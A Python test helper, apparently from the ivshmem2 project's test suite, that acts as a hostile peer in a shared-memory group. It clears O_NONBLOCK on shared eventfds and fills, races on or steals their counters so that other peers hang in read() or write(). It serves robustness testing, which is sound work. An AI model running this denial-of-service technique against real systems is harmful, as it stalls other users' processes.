# SPDX-License-Identifier: BSD-3-Clause
# Copyright(c) 2026 The ivshmem2 authors
"""A hostile peer that abuses the eventfds every peer of a group holds.

Every peer receives the same open files for every (peer, vector) eventfd.
O_NONBLOCK belongs to the open file, so any holder can make a file blocking
for all of them; then a write(1) to a full counter, or a read of an empty
one, blocks whoever does it. This process joins a group through the real
server like any peer and then attacks (each attack on its own vector list):

  --fill PEER:VEC     make the file blocking, fill the counter
                      (0xfffffffffffffffe) and never read it again;
  --race PEER:VEC     make the file blocking and, in a loop, empty the
                      counter and fill it again, so that whoever saw room
                      a moment ago blocks in write();
  --steal PEER:VEC    make the file blocking, read it from two blocked
                      threads and add a count every 0.5 ms: the victim,
                      woken with the thieves, may find the count gone and
                      block in read(). With --victim PID it notices when a
                      thread of PID sleeps in an eventfd read and then waits
                      --pause seconds before the next count (a real attacker
                      just stops), so the stall shows.

  --hold PEER:VEC     make the file blocking and wait for commands on stdin:
                      "fill PEER:VEC" fills it now, "peek PEER:VEC" prints
                      its counter (each answers one line).

It keeps clearing O_NONBLOCK (the victim may set it again) until SIGTERM,
then prints one line of counters. Prints "ready ID" once attacking.

    python3 tests/lib/hostile_fd_holder.py -S SOCK --fill 2:0 --steal 0:1
"""

from __future__ import annotations

import argparse
import fcntl
import os
import signal
import sys
import threading
import time
from pathlib import Path

from ivshmem2_peer import Peer  # beside this file: on sys.path when run as a script

FULL = 0xFFFFFFFFFFFFFFFE  # the largest count an eventfd holds


def set_blocking(fd: int, blocking: bool) -> None:
    flags = fcntl.fcntl(fd, fcntl.F_GETFL)
    flags = flags & ~os.O_NONBLOCK if blocking else flags | os.O_NONBLOCK
    fcntl.fcntl(fd, fcntl.F_SETFL, flags)


def take(fd: int) -> int:
    """The counter, emptied, without blocking whatever O_NONBLOCK says."""
    buf = bytearray(8)
    try:
        os.preadv(fd, [buf], -1, os.RWF_NOWAIT)
    except BlockingIOError:
        return 0
    return int.from_bytes(buf, "little")


def fill(fd: int) -> None:
    """Fill the counter (never blocks: O_NONBLOCK only around the write)."""
    set_blocking(fd, False)
    try:
        have = take(fd)
        del have
        os.write(fd, FULL.to_bytes(8, "little"))
    except BlockingIOError:
        pass  # somebody added to it meanwhile: full enough
    finally:
        set_blocking(fd, True)


def parse_slot(text: str):
    peer, vector = text.split(":")
    return int(peer), int(vector)


class Attack:
    def __init__(self, peer: Peer, args):
        self.peer = peer
        self.args = args
        self.stop = threading.Event()
        self.counts = {"filled": 0, "raced": 0, "poked": 0, "stolen": 0, "stuck": 0}
        self.lock = threading.Lock()

    def fd(self, slot):
        peer, vector = slot
        fds = self.peer.vectors if peer == self.peer.id else self.peer.peers[peer]
        return fds[vector]

    def count(self, what):
        with self.lock:
            self.counts[what] += 1

    def keep_blocking(self, fds):
        while not self.stop.wait(0.005):
            for fd in fds:
                set_blocking(fd, True)

    def race(self, fd):
        while not self.stop.is_set():
            take(fd)
            set_blocking(fd, False)
            try:
                os.write(fd, FULL.to_bytes(8, "little"))
            except BlockingIOError:
                pass
            set_blocking(fd, True)
            self.count("raced")

    def victim_stuck(self):
        """Is a thread of the victim asleep in read() of an eventfd?"""
        if not self.args.victim:
            return False
        proc = Path(f"/proc/{self.args.victim}")
        try:
            tasks = list((proc / "task").iterdir())
        except FileNotFoundError:
            return False
        for task in tasks:
            try:
                # "0 0xFD ...": in read(2) (x86_64), on fd FD
                call = (task / "syscall").read_text().split()
                if call[0] != "0" or (task / "wchan").read_text() in ("", "0"):
                    continue
                fdinfo = (proc / "fdinfo" / str(int(call[1], 16))).read_text()
                if "eventfd-count" in fdinfo:
                    return True
            except (OSError, IndexError, ValueError):
                pass
        return False

    def thief(self, fd):
        while not self.stop.is_set():
            try:
                if os.read(fd, 8):  # blocking: woken with the victim
                    self.count("stolen")
            except BlockingIOError:
                time.sleep(0.001)  # made non-blocking meanwhile

    def steal(self, fds):
        one = (1).to_bytes(8, "little")
        while not self.stop.wait(0.0005):
            # counters far from full: these writes never block
            for fd in fds:
                os.write(fd, one)
            self.count("poked")
            if self.victim_stuck():
                self.count("stuck")
                self.stop.wait(self.args.pause)

    def commands(self):
        for line in sys.stdin:
            what, slot = line.split()
            fd = self.fd(parse_slot(slot))
            if what == "fill":
                fill(fd)
                self.count("filled")
                print("filled", flush=True)
            elif what == "peek":
                with open(f"/proc/self/fdinfo/{fd}") as f:
                    count = [ln.split()[1] for ln in f if ln.startswith("eventfd-count")]
                print(f"count {int(count[0], 16)}", flush=True)

    def run(self):
        a = self.args
        fill_fds = [self.fd(s) for s in a.fill]
        race_fds = [self.fd(s) for s in a.race]
        steal_fds = [self.fd(s) for s in a.steal]
        hold_fds = [self.fd(s) for s in a.hold]
        threads = []
        for fd in fill_fds:
            fill(fd)
            self.count("filled")
        for fd in race_fds:
            threads.append(threading.Thread(target=self.race, args=(fd,), daemon=True))
        for fd in steal_fds:
            for _ in range(2):
                threads.append(threading.Thread(target=self.thief, args=(fd,), daemon=True))
        if steal_fds:
            threads.append(threading.Thread(target=self.steal, args=(steal_fds,), daemon=True))
        threads.append(threading.Thread(target=self.keep_blocking,
                                         args=(fill_fds + race_fds + steal_fds + hold_fds,),
                                         daemon=True))
        if hold_fds:
            threads.append(threading.Thread(target=self.commands, daemon=True))
        for t in threads:
            t.start()
        print(f"ready {self.peer.id}", flush=True)
        signal.sigwait({signal.SIGTERM, signal.SIGINT})
        self.stop.set()
        with self.lock:
            print(" ".join(f"{k}={v}" for k, v in self.counts.items()), flush=True)
        # Threads blocked in read() or write() die with the process.
        os._exit(0)


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("-S", "--socket", required=True)
    ap.add_argument("--wait-peers", default="", help="peer IDs to know before attacking")
    ap.add_argument("--fill", type=parse_slot, action="append", default=[])
    ap.add_argument("--race", type=parse_slot, action="append", default=[])
    ap.add_argument("--steal", type=parse_slot, action="append", default=[])
    ap.add_argument("--hold", type=parse_slot, action="append", default=[])
    ap.add_argument("--victim", type=int, help="PID of the victim (for --steal)")
    ap.add_argument("--pause", type=float, default=5.0)
    args = ap.parse_args(argv)
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGTERM, signal.SIGINT})
    peer = Peer(args.socket, map_memory=False)
    peer.wait_ready()
    for pid in filter(None, args.wait_peers.split(",")):
        peer.wait_peer(int(pid))
    Attack(peer, args).run()
    return 0


if __name__ == "__main__":
    sys.exit(main())
